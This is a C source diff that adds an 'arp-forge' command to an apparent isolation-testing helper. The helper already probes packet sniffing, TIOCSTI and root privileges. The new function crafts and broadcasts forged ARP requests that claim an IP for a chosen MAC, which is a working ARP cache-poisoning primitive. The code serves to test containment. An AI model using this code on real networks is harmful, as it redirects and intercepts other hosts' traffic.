@@ -928,6 +928,56 @@ static int sniff(const char *marker, int seconds)
 	return result(1, "captured %ld packets in %d s, none carrying the marker", packets, seconds);
 }
 
+/*
+ * arp-forge IFNAME CLAIM_IP TARGET_IP [MAC]: broadcasts 3 ARP requests on IFNAME that claim
+ * CLAIM_IP for MAC (default: IFNAME's own), asking for TARGET_IP: hosts on the segment that
+ * learn from requests (Linux updates an existing neighbour entry) then send CLAIM_IP's traffic
+ * to MAC. Reports only what was sent: the test sees the effect (where traffic goes).
+ */
+static int arp_forge(const char *ifname, const char *claim, const char *target, const char *macstr)
+{
+	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
+	if (s < 0)
+		return result(denied(errno) ? 1 : 3, "AF_PACKET socket: %s", strerror(errno));
+	struct ifreq ifr;
+	memset(&ifr, 0, sizeof ifr);
+	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
+	if (ioctl(s, SIOCGIFINDEX, &ifr) < 0)
+		return result(3, "no interface %s", ifname);
+	int index = ifr.ifr_ifindex;
+	unsigned char mac[6];
+	if (macstr && *macstr) {
+		if (sscanf(macstr, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
+			return result(3, "bad MAC %s", macstr);
+	} else {
+		if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
+			return result(3, "SIOCGIFHWADDR: %s", strerror(errno));
+		memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
+	}
+	unsigned char f[42];
+	memset(f, 0xff, 6);                     /* broadcast */
+	memcpy(f + 6, mac, 6);
+	f[12] = 0x08; f[13] = 0x06;             /* ARP */
+	unsigned char arp[28] = {0, 1, 8, 0, 6, 4, 0, 1};  /* ethernet, IPv4, request */
+	memcpy(arp + 8, mac, 6);
+	inet_pton(AF_INET, claim, arp + 14);
+	memset(arp + 18, 0, 6);
+	inet_pton(AF_INET, target, arp + 24);
+	memcpy(f + 14, arp, 28);
+	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6};
+	memset(to.sll_addr, 0xff, 6);
+	int sent = 0;
+	for (int i = 0; i < 3; i++) {
+		if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof f)
+			sent++;
+		usleep(100000);
+	}
+	close(s);
+	printf("SENT %d\n", sent);
+	return result(sent ? 0 : 1, "sent %d ARP requests claiming %s for %02x:%02x:%02x:%02x:%02x:%02x", sent, claim,
+		      mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]);
+}
+
 /* ---------- terminal ---------- */
 
 static int tiocsti(void)
@@ -1301,6 +1351,8 @@ int main(int argc, char **argv)
 		return geteuid() == 0 ? result(0, "running with euid 0 (uid %d)", getuid()) : result(1, "euid %d", geteuid());
 	if (!strcmp(c, "fill"))
 		return fill(ARG(2), atol(ARG(3)));
+	if (!strcmp(c, "arp-forge"))
+		return arp_forge(ARG(2), ARG(3), ARG(4), ARG(5));
 	if (!strcmp(c, "hog"))
 		return hog(ARG(2), atoi(ARG(3)));
 	if (!strcmp(c, "one"))
